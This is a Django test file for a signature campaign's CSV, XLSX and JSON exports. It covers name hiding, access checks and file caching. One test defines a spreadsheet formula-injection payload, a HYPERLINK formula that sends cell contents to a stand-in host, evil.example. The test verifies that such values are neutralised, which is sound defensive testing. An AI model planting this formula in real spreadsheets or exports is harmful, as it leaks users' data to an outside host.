"""CSV and XLSX downloads of named signatories and of counts by region and by day."""

import csv
import io
import json
import shutil
from pathlib import Path

from django.conf import settings
from django.db import connection
from django.test import override_settings
from django.test.utils import CaptureQueriesContext
from openpyxl import load_workbook

from tests.base import PersonaTestCase, make_claims
from undersigned.campaigns.actions import set_names_hidden
from undersigned.campaigns.models import Campaign
from undersigned.signatures.actions import Claims
from undersigned.signatures.models import Signature
from undersigned.web.exports import build_exports

INJECTION = '=HYPERLINK("http://evil.example/?x="&A1,"click")'


class DownloadViewTest(PersonaTestCase):
    def setUp(self) -> None:
        self.root = Path(settings.VAR_DIR) / "export-test"
        shutil.rmtree(self.root, ignore_errors=True)
        self.override = override_settings(EXPORT_ROOT=self.root)
        self.override.enable()
        self.addCleanup(self.override.disable)
        self.addCleanup(shutil.rmtree, self.root, True)

    def download(self, dataset: str, fmt: str, slug: str = "deputies") -> bytes:
        self.refresh_counts()
        build_exports()  # the periodic job, run here synchronously
        response = self.client.get(f"/c/{slug}/data/{dataset}.{fmt}")
        assert response.status_code == 200, response
        assert f'filename="{slug}-{dataset}.{fmt}"' in response["Content-Disposition"]
        assert "public" in response["Cache-Control"]
        if response.streaming:
            return b"".join(response.streaming_content)
        return response.content

    def csv_rows(self, dataset: str) -> list[list[str]]:
        text = self.download(dataset, "csv").decode("utf-8-sig")
        return list(csv.reader(io.StringIO(text)))

    def xlsx_rows(self, dataset: str) -> list[tuple[object, ...]]:
        workbook = load_workbook(io.BytesIO(self.download(dataset, "xlsx")))
        return list(workbook.active.iter_rows(values_only=True))

    def test_signatories_are_named_verified_only(self) -> None:
        self.sign_verified(make_claims(1, "RU-IRK"))
        self.sign_verified(make_claims(2), publication=Signature.ANONYMOUS)
        self.sign(make_claims(3))
        rows = self.csv_rows("signatories")
        assert rows[0] == [
            "full_name",
            "office",
            "body",
            "municipality",
            "region_code",
            "region",
            "verified_on",
        ]
        assert [r[0] for r in rows[1:]] == [make_claims(1).full_name]
        assert rows[1][4] == "RU-IRK"
        xlsx = self.xlsx_rows("signatories")
        assert [r[0] for r in xlsx[1:]] == [make_claims(1).full_name]

    def test_formula_injection_is_defused(self) -> None:
        evil = Claims(
            full_name=INJECTION,
            office="+7 999",
            body="@SUM(1)",
            municipality="-2",
            region_code="RU-MOW",
        )
        self.sign_verified(evil)
        row = self.csv_rows("signatories")[1]
        assert row[:4] == ["'" + INJECTION, "'+7 999", "'@SUM(1)", "'-2"]
        cells = self.xlsx_rows("signatories")[1]
        assert cells[:4] == ("'" + INJECTION, "'+7 999", "'@SUM(1)", "'-2")
        workbook = load_workbook(io.BytesIO(self.download("signatories", "xlsx")))
        assert all(cell.data_type == "s" for cell in workbook.active[2][:4])

    def test_regions_and_timeline(self) -> None:
        self.sign_verified(make_claims(1, "RU-IRK"))
        self.sign(make_claims(2, "RU-IRK"))
        self.refresh_counts()
        regions = self.csv_rows("regions")
        assert regions[0] == ["region_code", "region", "verified", "being_checked"]
        assert regions[1][0] == "RU-IRK" and regions[1][2:] == ["1", "1"]
        timeline = self.csv_rows("timeline")
        assert timeline[0] == ["day", "received_total", "verified_total"]
        assert timeline[-1][1:] == ["2", "1"]
        assert self.xlsx_rows("regions")[1][2:] == (1, 1)

    def test_hidden_names_and_unpublished_regions(self) -> None:
        self.sign_verified(make_claims(1))
        set_names_hidden(self.campaign, True, actor=self.organizer)
        assert self.csv_rows("signatories") == [
            ["full_name", "office", "body", "municipality", "region_code", "region", "verified_on"]
        ]
        quiet = self.make_campaign("quiet", publish_region_counts=False)
        self.sign_verified(make_claims(2), quiet)
        self.refresh_counts()
        assert len(self.download("regions", "csv", "quiet").decode("utf-8-sig").splitlines()) == 1

    def test_hiding_names_reaches_every_download_at_once(self) -> None:
        name = make_claims(1).full_name
        self.sign_verified(make_claims(1))
        self.refresh_counts()
        build_exports()
        for fmt in ("csv", "json", "xlsx"):
            assert self.client.get(f"/c/deputies/data/signatories.{fmt}").status_code == 200
        set_names_hidden(self.campaign, True, actor=self.organizer)
        # Before any export run: no file of the list of names is left to serve, in any
        # language or format; the counts stay.
        for fmt in ("csv", "json", "xlsx"):
            for language in ("ru", "en"):
                response = self.client.get(f"/c/deputies/data/signatories.{fmt}?lang={language}")
                assert response.status_code == 503, (fmt, language)
                assert name.encode() not in response.content
        assert not list((self.root / "deputies").glob("signatories.*"))
        assert self.client.get("/c/deputies/data/regions.csv").status_code == 200
        files = b"".join(p.read_bytes() for p in self.root.rglob("*") if p.is_file())
        assert name.encode() not in files
        # The next run writes the lists again, without names.
        assert self.csv_rows("signatories") == [
            ["full_name", "office", "body", "municipality", "region_code", "region", "verified_on"]
        ]

    def test_unknown_dataset_format_or_campaign_is_404(self) -> None:
        self.make_campaign("secret-draft", open_it=False)
        for url in (
            "/c/deputies/data/contacts.csv",
            "/c/deputies/data/signatories.pdf",
            "/c/nope/data/regions.csv",
            "/c/secret-draft/data/signatories.csv",
        ):
            assert self.client.get(url).status_code == 404, url

    def test_json_holds_the_same_rows(self) -> None:
        self.sign_verified(make_claims(1, "RU-IRK"))
        rows = json.loads(self.download("signatories", "json"))
        assert [row["full_name"] for row in rows] == [make_claims(1).full_name]
        assert rows[0]["region_code"] == "RU-IRK"

    def test_a_request_never_computes_an_export(self) -> None:
        self.sign_verified(make_claims(1))
        pending = self.client.get("/c/deputies/data/signatories.csv?lang=en")
        assert pending.status_code == 503  # the job has not written it yet
        assert "being prepared" in pending.content.decode()
        build_exports()
        with CaptureQueriesContext(connection) as queries:
            response = self.client.get("/c/deputies/data/signatories.xlsx?x=1")
        assert response.status_code == 200 and response.streaming
        assert not any("signatures_signature" in q["sql"] for q in queries.captured_queries)
        assert response["X-Accel-Expires"] == "0"

    def test_behind_nginx_the_app_only_names_the_file(self) -> None:
        build_exports()
        with override_settings(EXPORT_ACCEL_PREFIX="/_exports/"):
            response = self.client.get("/c/deputies/data/timeline.json?lang=en")
        assert response.status_code == 200 and response.content == b""
        assert response["X-Accel-Redirect"] == "/_exports/deputies/timeline.en.json"
        assert response["Content-Type"] == "application/json"
        assert 'filename="deputies-timeline.json"' in response["Content-Disposition"]

    def test_files_are_written_again_only_when_something_moved(self) -> None:
        assert build_exports() == 1
        assert build_exports() == 0
        self.sign_verified(make_claims(1))
        self.refresh_counts()
        assert build_exports() == 1
        assert not list(self.root.glob("*/.*.tmp"))

    def test_a_campaign_no_longer_public_loses_its_files(self) -> None:
        build_exports()
        assert (self.root / "deputies").is_dir()
        Campaign.objects.filter(pk=self.campaign.pk).update(state=Campaign.DRAFT)
        build_exports()
        assert not (self.root / "deputies").exists()
